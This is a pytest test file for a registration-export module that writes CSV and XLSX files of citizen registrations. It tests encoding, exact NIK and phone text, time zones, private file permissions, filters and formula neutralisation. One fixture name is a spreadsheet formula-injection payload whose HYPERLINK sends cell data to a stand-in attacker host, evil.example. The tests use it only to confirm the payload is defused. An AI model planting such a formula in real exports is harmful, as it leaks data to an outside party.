"""Registration exports: CSV and XLSX read back, spreadsheet safety, permissions, filters."""

import csv
import re
import stat
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from desk.export import COLUMNS, ExportFilters, export_csv, export_xlsx, filter_records


def registration(n: int, **fields: Any) -> dict[str, Any]:
    """A registration record shaped like the registration repository's."""
    record: dict[str, Any] = {
        "reg_no": f"SRG-2026-{n:06d}",
        "user_id": 1000 + n,
        "chat_id": 1000 + n,
        "full_name": f"Warga {n}",
        "nik": f"36730141019{n:05d}",
        "phone": f"+628123456{n:04d}",
        "kecamatan": "cipocok_jaya",
        "kelurahan": "karundang",
        "domicile_confirmed": True,
        "programmes": ["korea_work"],
        "training_willing": True,
        "email": None,
        "screening": {"eps_korea": "eligible"},
        "status": "baru",
        "status_reason": None,
        "notes": [],
        "history": [],
        "created_at": "2026-11-27T18:30:00+00:00",
        "updated_at": "2026-11-27T18:30:00+00:00",
    }
    record.update(fields)
    return record


RECORDS = [
    registration(1, full_name="Ñoman Śaputra", kecamatan="serang", kelurahan="sukawana"),
    registration(2, full_name="Siti Nur'aini", kecamatan="curug", kelurahan="sukawana"),
    registration(
        3,
        full_name="Dede Rohéndi",
        programmes=["japan_work", "scholarship"],
        screening={"ssw_japan": "needs_preparation", "gks_undergrad": "not_eligible"},
        training_willing=False,
        email="dede@example.id",
        status="tidak_lanjut",
        status_reason="-pindah ke Cilegon",
        notes=[{"at": "x", "by": 42, "text": "first"}, {"at": "y", "by": 42, "text": "last"}],
    ),
    registration(4, full_name='=HYPERLINK("http://evil.example/?x="&A1,"klik")'),
    registration(5, full_name="@SUM(1+1)", screening=None, programmes=[], training_willing=None),
]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert len(header) == len(COLUMNS)
    return [dict(zip(COLUMNS, row, strict=True)) for row in body]


def test_csv_has_every_registration_with_utf8_bom(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    seen: list[int] = []
    assert export_csv(RECORDS, path, progress=seen.append) == len(RECORDS)
    assert seen == [1, 2, 3, 4, 5]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_csv(path)
    assert [row["reg_no"] for row in rows] == [r["reg_no"] for r in RECORDS]
    header = path.read_text(encoding="utf-8-sig").splitlines()[0]
    # Every field quoted, the header too (QUOTE_ALL: a separator inside a cell stays inside).
    assert header.startswith('"No. Registrasi","Tanggal daftar (WIB)","Nama lengkap","NIK"')


def test_csv_keeps_nik_and_phone_exact_as_text(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    export_csv(RECORDS, path)
    rows = read_csv(path)
    # Exactly as stored: no TAB or apostrophe marker any more (the field is quoted text).
    assert rows[0]["nik"] == "3673014101900001"
    assert rows[0]["phone"] == "+6281234560001"
    for row, record in zip(rows, RECORDS, strict=True):
        assert re.fullmatch(r"\d{16}", row["nik"]) and row["nik"] == record["nik"]
        assert row["phone"] == record["phone"]
    line = path.read_text(encoding="utf-8-sig").splitlines()[1]
    assert '"3673014101900001","+6281234560001"' in line


def test_csv_labels_local_time_and_indonesian_characters(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    export_csv(RECORDS, path)
    rows = read_csv(path)
    assert [row["full_name"] for row in rows[:3]] == [
        "Ñoman Śaputra",
        "Siti Nur'aini",
        "Dede Rohéndi",
    ]
    assert rows[0]["created_at"] == "2026-11-28 01:30"  # 18:30 UTC is 01:30 WIB the next day
    assert (rows[0]["kecamatan"], rows[0]["kelurahan"]) == ("Serang", "Sukawana")
    assert (rows[1]["kecamatan"], rows[1]["kelurahan"]) == ("Curug", "Sukawana")
    third = rows[2]
    assert third["programmes"] == "Kerja ke Jepang, Beasiswa"
    assert third["screening"] == "SSW Jepang: perlu persiapan; GKS S1: belum memenuhi syarat"
    assert third["training_willing"] == "Tidak"
    assert third["status"] == "tidak lanjut"
    assert third["last_note"] == "last"
    assert third["email"] == "dede@example.id"
    assert rows[4]["training_willing"] == rows[4]["screening"] == ""


def test_csv_neutralises_formulas(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    export_csv(RECORDS, path)
    rows = read_csv(path)
    assert rows[3]["full_name"] == "'" + RECORDS[3]["full_name"]
    assert rows[4]["full_name"] == "'@SUM(1+1)"
    assert rows[2]["status_reason"] == "'-pindah ke Cilegon"
    for row in rows:
        for column, value in row.items():
            if column not in ("nik", "phone"):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_english_headers_and_labels(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    export_csv(RECORDS[2:3], path, lang="en")
    text = path.read_text(encoding="utf-8-sig")
    assert text.startswith('"Reg. no.","Registered (WIB)","Full name"')
    assert "SSW Japan: needs preparation; GKS undergraduate: not yet eligible" in text


def test_xlsx_read_back(tmp_path: Path) -> None:
    path = tmp_path / "leads.xlsx"
    assert export_xlsx(RECORDS, path) == len(RECORDS)
    ws = load_workbook(path).active
    assert ws is not None
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:4] == ("No. Registrasi", "Tanggal daftar (WIB)", "Nama lengkap", "NIK")
    assert [row[0] for row in rows[1:]] == [r["reg_no"] for r in RECORDS]
    first = dict(zip(COLUMNS, rows[1], strict=True))
    assert first["nik"] == "3673014101900001"
    assert first["phone"] == "+6281234560001"
    assert first["created_at"] == datetime(2026, 11, 28, 1, 30)
    assert [row[2] for row in rows[1:4]] == ["Ñoman Śaputra", "Siti Nur'aini", "Dede Rohéndi"]
    assert rows[4][2] == "'" + RECORDS[3]["full_name"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:N6"
    nik_cell, phone_cell, date_cell = ws["D2"], ws["E2"], ws["B2"]
    assert (nik_cell.data_type, nik_cell.number_format) == ("s", "@")
    assert (phone_cell.data_type, phone_cell.number_format) == ("s", "@")
    assert date_cell.is_date and date_cell.number_format == "yyyy-mm-dd hh:mm"
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)
    assert ws.column_dimensions["C"].width >= 20


def split_quoted(line: str, separator: str) -> list[str]:
    """A spreadsheet's reading of one CSV line with ``separator``: a separator inside quotes
    (which toggle at every ``"``, ``""`` being a quote inside them) does not split."""
    cells, current, quoted = [], [], False
    for char in line:
        if char == '"':
            quoted = not quoted
        elif char == separator and not quoted:
            cells.append("".join(current))
            current = []
            continue
        current.append(char)
    cells.append("".join(current))
    return [cell[1:-1].replace('""', '"') if cell.startswith('"') else cell for cell in cells]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_separator_makes_a_formula_cell(tmp_path: Path, separator: str) -> None:
    """Indonesian Excel reads a CSV with ";": every field is quoted, so a note holding the
    separator stays one cell; only a cell that itself begins with a trigger is neutralised."""
    note = f"catatan{separator}=1+1"
    record = registration(9, notes=[{"at": "x", "by": 42, "text": note}])
    path = tmp_path / "leads.csv"
    export_csv([*RECORDS, record], path)
    for line in path.read_text(encoding="utf-8-sig").splitlines()[1:]:
        for cell in split_quoted(line, separator):
            if re.fullmatch(r"\+\d+", cell):
                continue  # a phone exactly as stored: a number, never a formula
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (line, cell)
    assert read_csv(path)[-1]["last_note"] == note  # not neutralised: it begins with "c"


@pytest.mark.parametrize("export", [export_csv, export_xlsx])
def test_files_are_private(tmp_path: Path, export: Any) -> None:
    path = tmp_path / "leads.out"
    path.write_text("old")
    path.chmod(0o644)
    export(RECORDS, path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_filters() -> None:
    records = [
        registration(1, created_at="2026-11-01T00:00:00+00:00"),
        registration(2, kecamatan="kasemen", status="dihubungi"),
        registration(3, programmes=["japan_work"], screening={"ssw_japan": "needs_medical_check"}),
        registration(4, created_at="2026-11-30T17:30:00+00:00"),  # 1 Dec in Jakarta
    ]

    def reg_numbers(**kwargs: Any) -> list[int]:
        found = filter_records(records, ExportFilters(**kwargs))
        return [int(record["reg_no"][-3:]) for record in found]

    assert reg_numbers() == [1, 2, 3, 4]
    assert reg_numbers(kecamatan="kasemen") == [2]
    assert reg_numbers(status="baru") == [1, 3, 4]
    assert reg_numbers(programme="japan_work") == [3]
    assert reg_numbers(programme="eps_korea") == [1, 2, 4]
    assert reg_numbers(outcome="needs_medical_check") == [3]
    assert reg_numbers(programme="eps_korea", outcome="needs_medical_check") == []
    # an interest has no outcome of its own: any outcome counts, as in the lead list and exports
    assert reg_numbers(programme="japan_work", outcome="needs_medical_check") == [3]
    assert reg_numbers(since=date(2026, 11, 2)) == [2, 3, 4]
    assert reg_numbers(until=date(2026, 11, 30)) == [1, 2, 3]
    assert reg_numbers(since=date(2026, 12, 1), until=date(2026, 12, 1)) == [4]
